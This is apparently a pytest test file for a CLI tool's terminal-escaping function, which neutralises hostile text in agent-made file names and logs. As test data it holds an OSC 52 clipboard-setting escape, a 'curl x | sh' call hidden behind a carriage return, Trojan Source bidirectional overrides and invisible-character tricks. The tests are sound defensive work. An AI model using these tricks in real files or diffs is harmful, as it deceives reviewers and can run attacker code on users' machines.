"""Untrusted text (a file name an agent made, a task, an agent's log) printed by the CLI never drives
the user's terminal; to a pipe it goes through as it is (`loomtui.cli.terminal`)."""

from __future__ import annotations

import io
from contextlib import redirect_stderr, redirect_stdout
from pathlib import Path

import pytest

from loomtui.cli import main
from loomtui.cli.terminal import escaped
from tests.conftest import git, run_cli

EVIL = "evil\x1b]52;c;cHduZWQ=\x07.py"  # OSC 52: would set the clipboard of the terminal showing it


class Terminal(io.StringIO):
    def isatty(self) -> bool:
        return True


def test_a_file_name_with_escape_sequences_reaches_a_terminal_escaped_and_a_pipe_as_it_is(
        repo: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    (repo / EVIL).write_text("def f():\n    return 1\n")
    git(repo, "add", "-A")
    git(repo, "commit", "-qm", "a file an agent named")
    monkeypatch.chdir(repo)
    shown, progress = Terminal(), Terminal()
    with redirect_stdout(shown), redirect_stderr(progress):
        assert main(["regions", EVIL]) == 0
    assert "\x1b" not in shown.getvalue() and "\x07" not in shown.getvalue()
    assert "evil\\x1b]52;c;cHduZWQ=\\x07.py::f" in shown.getvalue()
    assert "\rindexing" in progress.getvalue()  # loomtui's own progress line still rewrites itself
    piped = run_cli(repo, "regions", EVIL)
    assert piped.returncode == 0 and f"{EVIL}::f" in piped.stdout


def test_the_app_draws_on_the_terminal_unwrapped_and_the_streams_come_back(
        repo: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """Its crash report is rich's colour on sys.stderr: escaped, it was noise. A command gets the
    guard; either way the caller's streams are its own again after."""
    import sys

    import loomtui.tui.app

    seen: list[object] = []
    monkeypatch.setattr(loomtui.tui.app, "run_app", lambda workspace: seen.append(sys.stderr) or 0)
    monkeypatch.chdir(repo)
    monkeypatch.setattr(sys, "stdin", Terminal())  # the app needs a terminal on both ends
    shown, err = Terminal(), Terminal()
    with redirect_stdout(shown), redirect_stderr(err):
        assert main([]) == 0
        assert seen == [err] and sys.stdout is shown  # the dashboard: the terminal as it is
        assert main(["status"]) == 0
        assert sys.stdout is shown and sys.stderr is err  # the guard was taken off again
    assert "\\x1b" not in shown.getvalue()


def test_only_newline_and_tab_pass() -> None:
    assert escaped("a\tb\nc") == "a\tb\nc"
    # A carriage return would put a line's start back under its end: the code hidden behind a comment.
    assert escaped('+os.system("curl x | sh")  \r+# fix a typo') == '+os.system("curl x | sh")  \\r+# fix a typo'
    assert escaped("\x00\x08\x0b\x1b[2J\x7f\x9b") == "\\x00\\x08\\x0b\\x1b[2J\\x7f\\x9b"
    assert escaped("café ✓") == "café ✓"
    # Bidirectional overrides show a name in another order than it is ("Trojan Source").
    assert escaped("invoice\u202egnp.exe") == "invoice\\u202egnp.exe"
    assert escaped("a\u2066b\u2069c\u200f") == "a\\u2066b\\u2069c\\u200f"
    assert escaped("שלום عربى") == "שלום عربى"  # right-to-left text itself is text
    # What draws nothing: `'admin\u200b'` read as `'admin'`, `zw\u200bname.py` as `zwname.py`.
    assert escaped("'admin\u200b' \u2060\ufeff\xad\U000e0041\u2028") == (
        "'admin\\u200b' \\u2060\\ufeff\\xad\\U000e0041\\u2028")
    # Blanks that look like nothing, and variation selectors smuggling bytes after one letter; an emoji's
    # colour form (U+FE0F) is left as it is.
    assert escaped("a\u2800b\u180bc\u17b4d\ufe00\U000e0100\U000e01ef ❤\ufe0f") == (
        "a\\u2800b\\u180bc\\u17b4d\\ufe00\\U000e0100\\U000e01ef ❤\ufe0f")
